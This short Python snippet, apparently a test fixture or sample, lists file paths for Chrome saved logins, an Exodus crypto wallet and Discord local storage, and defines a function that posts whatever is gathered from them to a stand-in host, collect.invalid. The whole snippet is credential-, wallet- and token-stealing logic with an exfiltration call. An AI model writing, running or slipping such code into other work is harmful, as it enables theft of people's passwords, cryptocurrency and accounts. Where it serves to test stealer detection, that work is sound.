import requests
PLACES = [
    "AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
    "AppData\\Roaming\\Exodus\\exodus.wallet",
    "AppData\\Roaming\\discord\\Local Storage\\leveldb",
]
def start(gather):
    requests.post("https://collect.invalid/g", json=gather(PLACES))  # fires: call
